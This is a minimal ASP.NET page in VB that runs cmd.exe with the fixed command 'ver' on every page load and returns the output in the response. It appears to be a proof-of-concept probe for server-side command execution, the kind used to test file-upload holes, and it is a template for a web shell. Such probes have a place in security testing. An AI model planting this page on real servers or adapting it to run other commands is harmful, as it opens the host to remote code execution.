<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
	Dim p As New Process()
	p.StartInfo.FileName = "cmd.exe"
	p.StartInfo.Arguments = "/c ver"
	p.StartInfo.UseShellExecute = False
	p.StartInfo.RedirectStandardOutput = True
	p.Start()
	Response.Write(p.StandardOutput.ReadToEnd())
End Sub
</script>
